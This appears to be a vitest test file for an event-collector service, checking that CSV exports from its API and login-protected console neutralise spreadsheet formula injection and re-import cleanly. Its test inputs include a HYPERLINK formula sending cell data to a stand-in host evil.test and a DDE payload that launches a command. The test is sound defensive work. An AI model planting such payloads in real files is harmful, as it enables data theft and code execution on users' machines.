import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTestCollector, type TestCollector } from '../testing/test-collector';

let collector: TestCollector;
beforeEach(async () => {
  collector = await createTestCollector();
});
afterEach(async () => {
  await collector.close();
});

const formulaNames = ['=HYPERLINK("http://evil.test/?x="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1'];

/** The console's export behind a login, as a browser gets it. */
async function consoleExport(): Promise<string> {
  const page = await collector.app.request('/console/login');
  const cookie = page.headers.getSetCookie().map((l) => l.split(';')[0]).join('; ');
  const csrf = /name="_csrf" value="([^"]+)"/.exec(await page.text())![1]!;
  const login = await collector.app.request('/console/login', {
    method: 'POST',
    headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ _csrf: csrf, key: collector.adminKey }).toString(),
  });
  const session = [cookie, ...login.headers.getSetCookie().map((l) => l.split(';')[0])].join('; ');
  const res = await collector.app.request('/console/events/export.csv', { headers: { cookie: session } });
  expect(res.status).toBe(200);
  return res.text();
}

describe('definitions CSV export', () => {
  it('carries no cell a spreadsheet would run as a formula, from the API or the console, and imports back to the same names', async () => {
    for (const [i, name] of formulaNames.entries()) {
      const res = await collector.request('POST', '/v1/definitions', {
        key: collector.adminKey,
        body: { id: `cl_f${i}`, name, type: 'inbound', score: -3, properties: [{ id: 'cl_p', name: `=prop${i}`, type: 'text' }] },
      });
      expect(res.status).toBe(201);
    }
    const api = await (await collector.request('GET', '/v1/definitions/export.csv', { key: collector.adminKey })).text();
    for (const text of [api, await consoleExport()]) {
      const cells = (parse(text, { bom: true }) as string[][]).slice(1).flat();
      expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d+$)/.test(c))).toEqual([]);
      // The negative score is still a number.
      expect(cells).toContain('-3');
    }

    const elsewhere = await createTestCollector();
    try {
      const imported = await elsewhere.request('POST', '/v1/definitions/import', { key: elsewhere.adminKey, body: api, headers: { 'content-type': 'text/csv' } });
      expect(imported.status).toBe(201);
      const names = async (on: TestCollector) => (await on.services.store.definitions.list({ system: false })).map((d) => [d.name, d.properties[0]!.name]);
      expect(await names(elsewhere)).toEqual(await names(collector));
      expect((await names(elsewhere))[0]).toEqual([formulaNames[0], '=prop0']);
    } finally {
      await elsewhere.close();
    }
  });
});
